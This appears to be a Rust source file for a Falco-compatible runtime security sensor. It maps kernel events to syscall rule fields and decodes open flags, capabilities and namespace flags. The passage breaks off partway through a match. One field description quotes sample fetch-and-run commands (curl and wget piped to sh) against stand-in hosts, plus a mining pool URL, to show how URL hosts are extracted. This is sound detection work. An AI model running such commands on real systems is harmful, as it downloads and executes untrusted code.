//! The `syscall` event source: node events with the field names Falco's syscall rules use,
//! read from a [`NodeRecord`] (a kernel event plus what user space knows about its process
//! and container).

use std::borrow::Cow;
use std::net::IpAddr;
use std::sync::Arc;

use palisade_rules::{Event, FieldError, FieldSource, FieldSpec, Value, Values};

use crate::cgroup::Attribution;
use crate::decode::{Kind, NodeEvent};
use crate::metadata::ContainerInfo;

/// The rule `source` of node rules (Falco's name for it).
pub const SOURCE: &str = "syscall";

/// How far up `proc.aname[N]` looks.
pub const MAX_ANCESTORS: usize = 8;

/// One event with its process and container context.
#[derive(Debug, Clone, Copy)]
pub struct NodeRecord<'a> {
    pub event: &'a NodeEvent,
    /// The process's executable path (the event's own for exec events).
    pub exe: Option<&'a str>,
    /// The process's argv (argv[0] first).
    pub args: &'a [String],
    /// The process's working directory when it exec'd.
    pub cwd: Option<&'a str>,
    /// Ancestor names: parent first.
    pub ancestors: &'a [&'a str],
    /// The ancestors' entries in the process table, parent first, as far as it knows them.
    pub lineage: &'a [&'a crate::process::ProcInfo],
    /// The event's sequence number in this sensor run (Falco's `evt.num`), from 1.
    pub num: u64,
    pub attribution: &'a Attribution,
    pub container: Option<&'a ContainerInfo>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum F {
    EvtType,
    EvtDir,
    EvtIsOpenRead,
    EvtIsOpenWrite,
    EvtIsOpenExec,
    EvtArgFlags,
    EvtArgRequest,
    EvtArgUid,
    EvtArgExitCode,
    EvtArgPath,
    EvtArgOldpath,
    EvtArgNewpath,
    EvtArgMode,
    EvtArgDev,
    EvtArgDir,
    EvtArgFstype,
    EvtArgNstype,
    EvtArgCmd,
    EvtArgCapEffective,
    EvtArgCapPermitted,
    EvtArgGid,
    ProcIsExeUpperLayer,
    ProcIsExeFromMemfd,
    ProcExeIno,
    ProcName,
    ProcExe,
    ProcExepath,
    ProcCmdline,
    ProcArgs,
    ProcArgHosts,
    ProcCwd,
    ProcPid,
    ProcPpid,
    ProcPname,
    ProcPcmdline,
    ProcPexe,
    ProcPexepath,
    ProcAexe,
    ProcAexepath,
    EvtNum,
    ContainerStartTs,
    ProcAname,
    ProcTid,
    ProcTty,
    UserUid,
    UserName,
    UserLoginuid,
    UserLoginname,
    GroupName,
    FdIp,
    ThreadCapEffective,
    ThreadCapPermitted,
    GroupGid,
    FdName,
    FdDirectory,
    FdFilename,
    FdTypechar,
    FdType,
    FdSip,
    FdSport,
    FdRip,
    FdRport,
    FdCip,
    FdCport,
    FdLip,
    FdLport,
    ContainerId,
    ContainerFullId,
    ContainerName,
    ContainerImage,
    ContainerImageRepository,
    ContainerImageTag,
    ContainerImageDigest,
    ContainerPrivileged,
    K8sPodName,
    K8sNsName,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Arg {
    None,
    Optional,
}

/// Every supported field: name, accessor, argument, description.
const FIELDS: &[(&str, F, Arg, &str)] = &[
    ("evt.type", F::EvtType, Arg::None, "system call (execve, procexit, openat, connect, accept, accept4, ptrace, init_module, finit_module, setuid, setreuid, setresuid, setgid, setregid, setresgid, capset, unlink, unlinkat, rmdir, rename, renameat, renameat2, chmod, fchmod, fchmodat, mount, umount2, setns, unshare, clone, clone3, bpf, memfd_create)"),
    ("evt.dir", F::EvtDir, Arg::None, "`<` for exec, exit and accept (seen after the fact), `>` for system calls seen on entry"),
    ("evt.is_open_read", F::EvtIsOpenRead, Arg::None, "an open for reading"),
    ("evt.is_open_write", F::EvtIsOpenWrite, Arg::None, "an open for writing (O_WRONLY, O_RDWR, O_CREAT, O_TRUNC)"),
    ("evt.is_open_exec", F::EvtIsOpenExec, Arg::None, "an open that creates a file with an execute bit"),
    ("evt.arg.flags", F::EvtArgFlags, Arg::None, "flags as text: open (O_RDONLY|O_CLOEXEC), mount (MS_BIND|MS_REC), unshare/clone (CLONE_NEWNS|CLONE_NEWPID), unlinkat (AT_REMOVEDIR), memfd_create (MFD_CLOEXEC)"),
    ("evt.arg.request", F::EvtArgRequest, Arg::None, "ptrace request (PTRACE_ATTACH, ...)"),
    ("evt.arg.uid", F::EvtArgUid, Arg::None, "the uid a setuid call asks for"),
    ("evt.arg.status", F::EvtArgExitCode, Arg::None, "exit status"),
    ("evt.arg.path", F::EvtArgPath, Arg::None, "the file of an unlink, rmdir, chmod or open (absolute; relative paths resolved with the working directory); memfd_create: the name"),
    ("evt.arg.name", F::EvtArgPath, Arg::None, "same as evt.arg.path (unlinkat and memfd_create call it name)"),
    ("evt.arg.filename", F::EvtArgPath, Arg::None, "same as evt.arg.path (chmod calls it filename)"),
    ("evt.arg.oldpath", F::EvtArgOldpath, Arg::None, "rename: the old path"),
    ("evt.arg.newpath", F::EvtArgNewpath, Arg::None, "rename: the new path"),
    ("evt.arg.mode", F::EvtArgMode, Arg::None, "chmod: the new mode (only modes with an execute bit are collected); open: the creation mode; as text (S_IRUSR|S_IWUSR|S_IXUSR|S_ISUID...)"),
    ("evt.arg.dev", F::EvtArgDev, Arg::None, "mount: the source (device, directory or file system name)"),
    ("evt.arg.dir", F::EvtArgDir, Arg::None, "mount, umount2: the mount point"),
    ("evt.arg.type", F::EvtArgFstype, Arg::None, "mount: the file system type"),
    ("evt.arg.nstype", F::EvtArgNstype, Arg::None, "setns: the namespace type (CLONE_NEWNS, ...; 0 for any)"),
    ("evt.arg.cmd", F::EvtArgCmd, Arg::None, "bpf: the command (BPF_PROG_LOAD, BPF_MAP_CREATE, ...)"),
    ("evt.arg.cap_effective", F::EvtArgCapEffective, Arg::None, "capset: the effective capabilities, space-separated (CAP_SYS_ADMIN ...)"),
    ("evt.arg.cap_permitted", F::EvtArgCapPermitted, Arg::None, "capset: the permitted capabilities, space-separated"),
    ("evt.arg.gid", F::EvtArgGid, Arg::None, "the gid a setgid call asks for"),
    ("proc.is_exe_upper_layer", F::ProcIsExeUpperLayer, Arg::None, "exec: the executable is in the container's writable overlayfs (upper) layer, i.e. not from the image"),
    ("proc.is_exe_from_memfd", F::ProcIsExeFromMemfd, Arg::None, "exec: the executable is a memfd or a deleted shared-memory file (fileless)"),
    ("proc.exe_ino", F::ProcExeIno, Arg::None, "exec: inode number of the executable"),
    ("proc.name", F::ProcName, Arg::None, "process name (comm, 15 characters at most)"),
    ("proc.exe", F::ProcExe, Arg::None, "argv[0]"),
    ("proc.exepath", F::ProcExepath, Arg::None, "path of the executable"),
    ("proc.cmdline", F::ProcCmdline, Arg::None, "name and arguments"),
    ("proc.args", F::ProcArgs, Arg::None, "arguments (argv[1..]) joined by spaces"),
    ("proc.arg_hosts", F::ProcArgHosts, Arg::None, "hosts of the URLs in the arguments (`curl -fsSL http://bad.example/x.sh`, `sh -c 'wget -qO- https://1.2.3.4:8443/m | sh'`, `stratum+tcp://pool.example:3333` → bad.example, 1.2.3.4, pool.example), lower-cased (list; Palisade extension)"),
    ("proc.cwd", F::ProcCwd, Arg::None, "working directory at exec (within its mount)"),
    ("proc.pid", F::ProcPid, Arg::None, "process id"),
    ("proc.tid", F::ProcTid, Arg::None, "thread id"),
    ("proc.ppid", F::ProcPpid, Arg::None, "parent process id"),
    ("proc.pname", F::ProcPname, Arg::None, "parent process name"),
    ("proc.pcmdline", F::ProcPcmdline, Arg::None, "the parent's name and arguments"),
    ("proc.pexe", F::ProcPexe, Arg::None, "the parent's argv[0]"),
    ("proc.pexepath", F::ProcPexepath, Arg::None, "path of the parent's executable"),
    ("proc.aexe", F::ProcAexe, Arg::Optional, "ancestor argv[0]: [1] parent, [2] grandparent...; without an index, every known ancestor's"),
    ("proc.aexepath", F::ProcAexepath, Arg::Optional, "ancestor executable path, indexed like proc.aexe"),
    ("evt.num", F::EvtNum, Arg::None, "the event's sequence number in this sensor run, from 1"),
    ("container.start_ts", F::ContainerStartTs, Arg::None, "when the container started, in nanoseconds since the epoch"),
    ("proc.aname", F::ProcAname, Arg::Optional, "ancestor name: [1] parent, [2] grandparent...; without an index, every ancestor"),
    ("proc.tty", F::ProcTty, Arg::None, "controlling terminal as /proc/<pid>/stat's tty_nr (34816 is pts/0); 0: none (a process without a terminal, e.g. an entrypoint or `docker exec` without -t)"),
    ("user.uid", F::UserUid, Arg::None, "user id"),
    ("user.loginuid", F::UserLoginuid, Arg::None, "audit login uid of the session the process descends from; -1 when unset (services, containers)"),
    ("thread.cap_effective", F::ThreadCapEffective, Arg::None, "the thread's effective capabilities, space-separated (CAP_CHOWN ...)"),
    ("thread.cap_permitted", F::ThreadCapPermitted, Arg::None, "the thread's permitted capabilities, space-separated"),
    ("user.name", F::UserName, Arg::None, "user name (root for uid 0; the uid otherwise)"),
    ("group.gid", F::GroupGid, Arg::None, "group id"),
    ("user.loginname", F::UserLoginname, Arg::None, "name of the audit login uid (root for 0, the uid otherwise; missing when unset)"),
    ("group.name", F::GroupName, Arg::None, "group name (root for gid 0; the gid otherwise)"),
    ("fd.ip", F::FdIp, Arg::None, "every address of a connection's ends the sensor knows (connect: the server; accept: the server and the client): `fd.ip = X` holds when either end is X"),
    ("fd.name", F::FdName, Arg::None, "file path (open, unlink, chmod; rename: the old path), Unix socket path of a connect, or ip:port of a connection's remote end (accept: the peer)"),
    ("fd.directory", F::FdDirectory, Arg::None, "directory of the file"),
    ("fd.filename", F::FdFilename, Arg::None, "file name without the directory"),
    ("fd.typechar", F::FdTypechar, Arg::None, "f file, 4 IPv4, 6 IPv6, u Unix socket"),
    ("fd.type", F::FdType, Arg::None, "file, ipv4, ipv6, unix"),
    ("fd.sip", F::FdSip, Arg::None, "server address of a connection (the destination of a connect, the local end of an accept)"),
    ("fd.sport", F::FdSport, Arg::None, "server port of a connection"),
    ("fd.rip", F::FdRip, Arg::None, "remote address of a connection"),
    ("fd.rport", F::FdRport, Arg::None, "remote port of a connection"),
    ("fd.cip", F::FdCip, Arg::None, "client address of an accepted connection (the peer)"),
    ("fd.cport", F::FdCport, Arg::None, "client port of an accepted connection"),
    ("fd.lip", F::FdLip, Arg::None, "local address of an accepted connection"),
    ("fd.lport", F::FdLport, Arg::None, "local port of an accepted connection"),
    ("fd.net", F::FdIp, Arg::None, "fd.ip, for network values (`fd.net = 10.0.0.0/8`; CIDR values match by containment with any address field)"),
    ("fd.snet", F::FdSip, Arg::None, "fd.sip, for network values (`fd.snet in (169.254.169.254/32, fd00:ec2::254/128)`)"),
    ("fd.rnet", F::FdRip, Arg::None, "fd.rip, for network values"),
    ("fd.cnet", F::FdCip, Arg::None, "fd.cip, for network values"),
    ("fd.lnet", F::FdLip, Arg::None, "fd.lip, for network values"),
    ("container.id", F::ContainerId, Arg::None, "container id, 12 characters (`host` for host processes)"),
    ("container.full_id", F::ContainerFullId, Arg::None, "container id, 64 characters"),
    ("container.name", F::ContainerName, Arg::None, "container name (`host` for host processes)"),
    ("container.image", F::ContainerImage, Arg::None, "image reference the container was created from"),
    ("container.image.repository", F::ContainerImageRepository, Arg::None, "image repository"),
    ("container.image.tag", F::ContainerImageTag, Arg::None, "image tag"),
    ("container.image.digest", F::ContainerImageDigest, Arg::None, "image digest"),
    ("container.privileged", F::ContainerPrivileged, Arg::None, "whether the container is privileged"),
    ("k8s.pod.name", F::K8sPodName, Arg::None, "Kubernetes pod name"),
    ("k8s.ns.name", F::K8sNsName, Arg::None, "Kubernetes namespace"),
];

/// The field list (name, description) for documentation and `rules fields`.
pub fn field_docs() -> impl Iterator<Item = (&'static str, &'static str)> {
    FIELDS.iter().map(|(n, _, _, d)| (*n, *d))
}

/// The `syscall` source schema.
#[derive(Debug, Clone, Copy, Default)]
pub struct NodeFields;

impl FieldSource for NodeFields {
    fn source(&self) -> &str {
        SOURCE
    }

    fn resolve(&self, name: &str, arg: Option<&str>) -> Result<FieldSpec, FieldError> {
        let (i, (_, f, a, _)) = FIELDS
            .iter()
            .enumerate()
            .find(|(_, (n, ..))| *n == name)
            .ok_or_else(|| FieldError::Unsupported(name.to_string()))?;
        match (a, arg) {
            (Arg::None, Some(_)) => Err(FieldError::Argument {
                field: name.into(),
                message: "takes no argument".into(),
            }),
            (Arg::Optional, Some(x))
                if matches!(f, F::ProcAname | F::ProcAexe | F::ProcAexepath) =>
            {
                match x.parse::<usize>() {
                    Ok(n) if (1..=MAX_ANCESTORS).contains(&n) => Ok(FieldSpec {
                        id: i as u32,
                        arg: Some(Arc::from(x)),
                        name: Arc::from(format!("{name}[{x}]")),
                    }),
                    _ => Err(FieldError::Argument {
                        field: name.into(),
                        message: format!("index must be 1..={MAX_ANCESTORS}"),
                    }),
                }
            }
            _ => Ok(FieldSpec {
                id: i as u32,
                arg: None,
                name: Arc::from(name),
            }),
        }
    }

    fn index_field(&self) -> Option<&str> {
        Some("evt.type")
    }
}

/// Falco's name for the event's system call.
pub fn evt_type(e: &NodeEvent) -> &'static str {
    match e.kind {
        Kind::Exec => "execve",
        Kind::Exit => "procexit",
        Kind::Open => "openat",
        Kind::Connect => "connect",
        Kind::Ptrace => "ptrace",
        Kind::Module => {
            if e.a0 == 313 {
                "finit_module"
            } else {
                "init_module"
            }
        }
        Kind::Setuid => match e.a1 {
            113 => "setreuid",
            117 => "setresuid",
            _ => "setuid",
        },
        Kind::Setgid => match e.a1 {
            114 => "setregid",
            119 => "setresgid",
            _ => "setgid",
        },
        Kind::Unlink => match e.a1 {
            84 => "rmdir",
            263 => "unlinkat",
            _ => "unlink",
        },
        Kind::Rename => match e.a1 {
            264 => "renameat",
            316 => "renameat2",
            _ => "rename",
        },
        Kind::Chmod => match e.a1 {
            91 => "fchmod",
            268 | 452 => "fchmodat",
            _ => "chmod",
        },
        Kind::Mount => "mount",
        Kind::Umount => "umount2",
        Kind::Namespace => match e.a1 {
            308 => "setns",
            56 => "clone",
            435 => "clone3",
            _ => "unshare",
        },
        Kind::Bpf => "bpf",
        Kind::Capset => "capset",
        Kind::Accept => {
            if e.a3 == 288 {
                "accept4"
            } else {
                "accept"
            }
        }
        Kind::Memfd => "memfd_create",
    }
}

/// Namespace flags of clone, unshare and setns.
const CLONE_NEW: &[(i64, &str)] = &[
    (0x0000_0080, "CLONE_NEWTIME"),
    (0x0002_0000, "CLONE_NEWNS"),
    (0x0200_0000, "CLONE_NEWCGROUP"),
    (0x0400_0000, "CLONE_NEWUTS"),
    (0x0800_0000, "CLONE_NEWIPC"),
    (0x1000_0000, "CLONE_NEWUSER"),
    (0x2000_0000, "CLONE_NEWPID"),
    (0x4000_0000, "CLONE_NEWNET"),
];

const MOUNT_FLAGS: &[(i64, &str)] = &[
    (1, "MS_RDONLY"),
    (2, "MS_NOSUID"),
    (4, "MS_NODEV"),
    (8, "MS_NOEXEC"),
    (16, "MS_SYNCHRONOUS"),
    (32, "MS_REMOUNT"),
    (64, "MS_MANDLOCK"),
    (128, "MS_DIRSYNC"),
    (1024, "MS_NOATIME"),
    (2048, "MS_NODIRATIME"),
    (4096, "MS_BIND"),
    (8192, "MS_MOVE"),
    (16384, "MS_REC"),
    (1 << 17, "MS_UNBINDABLE"),
    (1 << 18, "MS_PRIVATE"),
    (1 << 19, "MS_SLAVE"),
    (1 << 20, "MS_SHARED"),
];

const MEMFD_FLAGS: &[(i64, &str)] = &[
    (1, "MFD_CLOEXEC"),
    (2, "MFD_ALLOW_SEALING"),
    (4, "MFD_HUGETLB"),
    (8, "MFD_NOEXEC_SEAL"),
    (16, "MFD_EXEC"),
];

/// Set bits as `A|B`; `none` when nothing is set.
fn bits_text(v: i64, names: &[(i64, &str)], none: &str) -> String {
    let mut out = String::new();
    for (bit, name) in names {
        if v & bit != 0 {
            if !out.is_empty() {
                out.push('|');
            }
            out.push_str(name);
        }
    }
    if out.is_empty() {
        out.push_str(none);
    }
    out
}

/// File mode bits as Falco prints them.
pub fn mode_text(mode: i64) -> String {
    const BITS: &[(i64, &str)] = &[
        (0o400, "S_IRUSR"),
        (0o200, "S_IWUSR"),
        (0o100, "S_IXUSR"),
        (0o040, "S_IRGRP"),
        (0o020, "S_IWGRP"),
        (0o010, "S_IXGRP"),
        (0o004, "S_IROTH"),
        (0o002, "S_IWOTH"),
        (0o001, "S_IXOTH"),
        (0o4000, "S_ISUID"),
        (0o2000, "S_ISGID"),
        (0o1000, "S_ISVTX"),
    ];
    bits_text(mode, BITS, "0")
}

/// Capability names by bit number (linux/capability.h).
const CAPS: &[&str] = &[
    "CAP_CHOWN",
    "CAP_DAC_OVERRIDE",
    "CAP_DAC_READ_SEARCH",
    "CAP_FOWNER",
    "CAP_FSETID",
    "CAP_KILL",
    "CAP_SETGID",
    "CAP_SETUID",
    "CAP_SETPCAP",
    "CAP_LINUX_IMMUTABLE",
    "CAP_NET_BIND_SERVICE",
    "CAP_NET_BROADCAST",
    "CAP_NET_ADMIN",
    "CAP_NET_RAW",
    "CAP_IPC_LOCK",
    "CAP_IPC_OWNER",
    "CAP_SYS_MODULE",
    "CAP_SYS_RAWIO",
    "CAP_SYS_CHROOT",
    "CAP_SYS_PTRACE",
    "CAP_SYS_PACCT",
    "CAP_SYS_ADMIN",
    "CAP_SYS_BOOT",
    "CAP_SYS_NICE",
    "CAP_SYS_RESOURCE",
    "CAP_SYS_TIME",
    "CAP_SYS_TTY_CONFIG",
    "CAP_MKNOD",
    "CAP_LEASE",
    "CAP_AUDIT_WRITE",
    "CAP_AUDIT_CONTROL",
    "CAP_SETFCAP",
    "CAP_MAC_OVERRIDE",
    "CAP_MAC_ADMIN",
    "CAP_SYSLOG",
    "CAP_WAKE_ALARM",
    "CAP_BLOCK_SUSPEND",
    "CAP_AUDIT_READ",
    "CAP_PERFMON",
    "CAP_BPF",
    "CAP_CHECKPOINT_RESTORE",
];

/// An ancestor's argv[0], or with `path` its executable's path.
fn ancestor_exe(p: &crate::process::ProcInfo, path: bool) -> Option<Value<'_>> {
    let v = if path {
        p.exe.as_deref()
    } else {
        p.args.first().map(String::as_str)
    };
    v.map(|v| Value::Str(Cow::Borrowed(v)))
}

/// A capability set as space-separated names (unknown bits as CAP_<n>).
pub fn caps_text(v: i64) -> String {
    (0..64)
        .filter(|i| v & (1i64 << i) != 0)
        .map(|i| {
            CAPS.get(i)
                .map_or_else(|| format!("CAP_{i}"), |c| (*c).to_string())
        })
        .collect::<Vec<_>>()
        .join(" ")
}

fn bpf_cmd(c: i64) -> Cow<'static, str> {
    Cow::Borrowed(match c {
        0 => "BPF_MAP_CREATE",
        5 => "BPF_PROG_LOAD",
        6 => "BPF_OBJ_PIN",
        8 => "BPF_PROG_ATTACH",
        17 => "BPF_RAW_TRACEPOINT_OPEN",
        18 => "BPF_BTF_LOAD",
        28 => "BPF_LINK_CREATE",
        _ => return Cow::Owned(c.to_string()),
    })
}

const O_WRONLY: i64 = 0o1;
const O_RDWR: i64 = 0o2;
const O_CREAT: i64 = 0o100;
const O_TRUNC: i64 = 0o1000;

/// Open flags as Falco prints them.
pub fn flags_text(flags: i64) -> String {
    const NAMES: &[(i64, &str)] = &[
        (0o100, "O_CREAT"),
        (0o200, "O_EXCL"),
        (0o400, "O_NOCTTY"),
        (0o1000, "O_TRUNC"),
        (0o2000, "O_APPEND"),
        (0o4000, "O_NONBLOCK"),
        (0o200000, "O_DIRECTORY"),
        (0o400000, "O_NOFOLLOW"),
        (0o2000000, "O_CLOEXEC"),
        (0o20000000, "O_TMPFILE"),
    ];
    let mut out = String::from(match flags & 3 {
        0 => "O_RDONLY",
        1 => "O_WRONLY",
        2 => "O_RDWR",
        _ => "O_ACCMODE",
    });
    for (bit, name) in NAMES {
        if flags & bit != 0 {
            out.push('|');
            out.push_str(name);
        }
    }
    out
}

fn ptrace_request(r: i64) -> Cow<'static, str> {
    Cow::Borrowed(match r {
        0 => "PTRACE_TRACEME",
        1 => "PTRACE_PEEKTEXT",
        2 => "PTRACE_PEEKDATA",
        4 => "PTRACE_POKETEXT",
        5 => "PTRACE_POKEDATA",
        16 => "PTRACE_ATTACH",
        17 => "PTRACE_DETACH",
        0x4206 => "PTRACE_SEIZE",
        _ => return Cow::Owned(format!("{r}")),
    })
}

/// The hosts of the `scheme://[user@]host[:port]/...` URLs in one argument (which may be a
/// whole shell command line), lower-cased; IPv6 hosts without their brackets.
pub fn url_hosts(arg: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = arg;
    while let Some(i) = rest.find("://") {
        let after = &rest[i + 3..];
        let end = after
            .find(|c: char| {
                c.is_whitespace()
                    || matches!(
                        c,
                        '/' | '?'
                            | '#'
                            | '"'
                            | '\''
                            | ';'
                            | '|'
                            | '&'
                            | ')'
                            | '('
                            | '`'
                            | '<'
                            | '>'
                    )
            })
            .unwrap_or(after.len());
        let authority = &after[..end];
        let hostport = authority.rsplit('@').next().unwrap_or_default();
        let host = if let Some(v6) = hostport.strip_prefix('[') {
            v6.split(']').next().unwrap_or_default()
        } else {
            hostport.split(':').next().unwrap_or_default()
        };
        if !host.is_empty() && host.len() <= 253 {
            out.push(host.to_ascii_lowercase());
        }
        rest = &after[end..];
    }
    out
}

fn s(v: &str) -> Values<'_> {
    Values::One(Value::Str(Cow::Borrowed(v)))
}
fn owned(v: String) -> Values<'static> {
    Values::One(Value::Str(Cow::Owned(v)))
}
fn int(v: i64) -> Values<'static> {
    Values::One(Value::Int(v))
}
fn b(v: bool) -> Values<'static> {
    Values::One(Value::Bool(v))
}

impl NodeRecord<'_> {
    pub fn container_id(&self) -> Option<&str> {
        self.attribution.container_id()
    }

    fn is_open(&self) -> bool {
        self.event.kind == Kind::Open
    }

    fn is_write(&self) -> bool {
        self.event.a0 & (O_WRONLY | O_RDWR | O_CREAT | O_TRUNC) != 0
    }

    fn remote(&self) -> Option<(IpAddr, i64)> {
        match (self.event.kind, self.event.addr) {
            (Kind::Connect | Kind::Accept, Some(a)) => Some((a, self.event.a1)),
            _ => None,
        }
    }

    /// The server end of a connection: the destination of a connect, the local end of an
    /// accept.
    fn server(&self) -> Option<(IpAddr, i64)> {
        match self.event.kind {
            Kind::Connect => self.remote(),
            Kind::Accept => self.event.laddr.map(|a| (a, self.event.a2)),
            _ => None,
        }
    }

    fn file(&self) -> Option<&str> {
        match self.event.kind {
            Kind::Open | Kind::Unlink | Kind::Chmod | Kind::Rename => self.event.path.as_deref(),
            _ => None,
        }
    }

    fn unix_socket(&self) -> Option<&str> {
        match self.event.kind {
            Kind::Connect if self.event.a0 == crate::decode::AF_UNIX => self.event.path.as_deref(),
            _ => None,
        }
    }
}

impl Event for NodeRecord<'_> {
    fn extract(&self, field: &FieldSpec) -> Values<'_> {
        let Some((_, f, _, _)) = FIELDS.get(field.id as usize) else {
            return Values::Missing;
        };
        let e = self.event;
        let container = |get: fn(&ContainerInfo) -> Option<&String>| match self.container {
            Some(c) => get(c).map_or(Values::Missing, |v| s(v)),
            None if self.container_id().is_none() => s("host"),
            None => Values::Missing,
        };
        match f {
            F::EvtType => s(evt_type(e)),
            F::EvtDir => s(
                if matches!(e.kind, Kind::Exec | Kind::Exit | Kind::Accept) {
                    "<"
                } else {
                    ">"
                },
            ),
            F::EvtIsOpenRead => b(self.is_open() && e.a0 & 3 != O_WRONLY),
            F::EvtIsOpenWrite => b(self.is_open() && self.is_write()),
            F::EvtIsOpenExec => b(self.is_open() && e.a0 & O_CREAT != 0 && e.a1 & 0o111 != 0),
            F::EvtArgFlags if self.is_open() => owned(flags_text(e.a0)),
            F::EvtArgFlags if e.kind == Kind::Mount => owned(bits_text(e.a0, MOUNT_FLAGS, "0")),
            F::EvtArgFlags if e.kind == Kind::Namespace && e.a1 != 308 => {
                owned(bits_text(e.a0, CLONE_NEW, "0"))
            }
            F::EvtArgFlags if e.kind == Kind::Unlink => s(if e.a0 & 0x200 != 0 {
                "AT_REMOVEDIR"
            } else {
                "0"
            }),
            F::EvtArgFlags if e.kind == Kind::Memfd => owned(bits_text(e.a0, MEMFD_FLAGS, "0")),
            F::EvtArgPath => match e.kind {
                Kind::Open | Kind::Unlink | Kind::Chmod | Kind::Memfd => {
                    e.path.as_deref().map_or(Values::Missing, s)
                }
                _ => Values::Missing,
            },
            F::EvtArgOldpath | F::EvtArgNewpath if e.kind == Kind::Rename => {
                let p = if *f == F::EvtArgOldpath {
                    &e.path
                } else {
                    &e.path2
                };
                p.as_deref().map_or(Values::Missing, s)
            }
            F::EvtArgMode if matches!(e.kind, Kind::Chmod | Kind::Open) => {
                owned(mode_text(if self.is_open() { e.a1 } else { e.a0 }))
            }
            F::EvtArgDev if e.kind == Kind::Mount => e.path2.as_deref().map_or(Values::Missing, s),
            F::EvtArgDir if matches!(e.kind, Kind::Mount | Kind::Umount) => {
                e.path.as_deref().map_or(Values::Missing, s)
            }
            F::EvtArgFstype if e.kind == Kind::Mount => {
                e.fstype.as_deref().map_or(Values::Missing, s)
            }
            F::EvtArgNstype if e.kind == Kind::Namespace && e.a1 == 308 => {
                owned(bits_text(e.a0, CLONE_NEW, "0"))
            }
            F::EvtArgCmd if e.kind == Kind::Bpf => Values::One(Value::Str(bpf_cmd(e.a0))),
            F::EvtArgCapEffective if e.kind == Kind::Capset => owned(caps_text(e.a0)),
            F::EvtArgCapPermitted if e.kind == Kind::Capset => owned(caps_text(e.a1)),
            F::EvtArgGid if e.kind == Kind::Setgid => int(e.a0),
            F::ProcIsExeUpperLayer if e.kind == Kind::Exec => b(e.exe_upper_layer),
            F::ProcIsExeFromMemfd if e.kind == Kind::Exec => b(e.exe_from_memfd),
            F::ProcExeIno if e.kind == Kind::Exec => int(e.a2),
            F::EvtArgOldpath
            | F::EvtArgNewpath
            | F::EvtArgMode
            | F::EvtArgDev
            | F::EvtArgDir
            | F::EvtArgFstype
            | F::EvtArgNstype
            | F::EvtArgCmd
            | F::EvtArgCapEffective
            | F::EvtArgCapPermitted
            | F::EvtArgGid
            | F::ProcIsExeUpperLayer
            | F::ProcIsExeFromMemfd
            | F::ProcExeIno => Values::Missing,
            F::EvtArgRequest if e.kind == Kind::Ptrace => {
                Values::One(Value::Str(ptrace_request(e.a0)))
            }
            F::EvtArgUid if e.kind == Kind::Setuid => int(e.a0),
            F::EvtArgExitCode if e.kind == Kind::Exit => int(e.a0),
            F::EvtArgFlags | F::EvtArgRequest | F::EvtArgUid | F::EvtArgExitCode => Values::Missing,
            F::ProcName => s(&e.comm),
            F::ProcExe => self.args.first().map_or(Values::Missing, |a| s(a)),
            F::ProcExepath => self.exe.map_or(Values::Missing, s),
            F::ProcCmdline => {
                let mut out = e.comm.clone();
                for a in self.args.iter().skip(1) {
                    out.push(' ');
                    out.push_str(a);
                }
                owned(out)
            }
            F::ProcArgs => owned(self.args.get(1..).unwrap_or_default().join(" ")),
            F::ProcArgHosts => {
                let mut hosts: Vec<Value<'_>> = Vec::new();
                for h in self.args.iter().skip(1).flat_map(|a| url_hosts(a)) {
                    let v = Value::Str(Cow::Owned(h));
                    if !hosts.contains(&v) && hosts.len() < 64 {
                        hosts.push(v);
                    }
                }
                Values::Many(hosts)
            }
            F::ProcCwd => self.cwd.map_or(Values::Missing, s),
            F::ProcPid => int(e.pid.into()),
            F::ProcTid => int(e.tid.into()),
            F::ProcPpid => int(e.ppid.into()),
            F::ProcPname => {
                if e.pcomm.is_empty() {
                    Values::Missing
                } else {
                    s(&e.pcomm)
                }
            }
            F::ProcPcmdline => self.lineage.first().map_or(Values::Missing, |p| {
                let mut out = p.name.clone();
                for a in p.args.iter().skip(1) {
                    out.push(' ');
                    out.push_str(a);
                }
                owned(out)
            }),
            F::ProcPexe => self
                .lineage
                .first()
                .and_then(|p| p.args.first())
                .map_or(Values::Missing, |a| s(a)),
            F::ProcPexepath => self
                .lineage
                .first()
                .and_then(|p| p.exe.as_deref())
                .map_or(Values::Missing, s),
            F::ProcAexe | F::ProcAexepath => {
                let path = *f == F::ProcAexepath;
                match field.arg.as_deref().and_then(|a| a.parse::<usize>().ok()) {
                    Some(n) => self
                        .lineage
                        .get(n - 1)
                        .and_then(|p| ancestor_exe(p, path))
                        .map_or(Values::Missing, Values::One),
                    None => Values::Many(
                        self.lineage
                            .iter()
                            .filter_map(|p| ancestor_exe(p, path))
                            .collect(),
                    ),
                }
            }
            F::EvtNum => int(self.num as i64),
            F::ContainerStartTs => self
                .container
                .and_then(|c| c.started_at_ns)
                .map_or(Values::Missing, int),
            F::ProcAname => match field.arg.as_deref().and_then(|a| a.parse::<usize>().ok()) {
                Some(1) if !e.pcomm.is_empty() => s(&e.pcomm),
                Some(n) => self.ancestors.get(n - 1).map_or(Values::Missing, |a| s(a)),
                None => Values::Many(
                    self.ancestors
                        .iter()
                        .map(|a| Value::Str(Cow::Borrowed(*a)))
                        .collect(),
                ),
            },
            F::ProcTty => int(e.tty.into()),
            F::UserLoginuid => int(if e.loginuid == u32::MAX {
                -1
            } else {
                e.loginuid.into()
            }),
            F::ThreadCapEffective => owned(caps_text(e.cap_effective as i64)),
            F::ThreadCapPermitted => owned(caps_text(e.cap_permitted as i64)),
            F::UserUid => int(e.uid.into()),
            F::UserName => {
                if e.uid == 0 {
                    s("root")
                } else {
                    owned(e.uid.to_string())
                }
            }
            F::GroupGid => int(e.gid.into()),
            F::UserLoginname => match e.loginuid {
                u32::MAX => Values::Missing,
                0 => s("root"),
                uid => owned(uid.to_string()),
            },
            F::GroupName => {
                if e.gid == 0 {
                    s("root")
                } else {
                    owned(e.gid.to_string())
                }
            }
            F::FdIp => {
                let mut ips: Vec<Value> = self
                    .server()
                    .map(|(a, _)| Value::Str(Cow::Owned(a.to_string())))
                    .into_iter()
                    .collect();
                if e.kind == Kind::Accept {
                    ips.extend(e.addr.map(|a| Value::Str(Cow::Owned(a.to_string()))));
                }
                if ips.is_empty() {
                    Values::Missing
                } else {
                    Values::Many(ips)
                }
            }
            F::FdName => match (self.file().or(self.unix_socket()), self.remote()) {
                (Some(p), _) => s(p),
                (None, Some((a, p))) => owned(match a {
                    IpAddr::V4(a) => format!("{a}:{p}"),
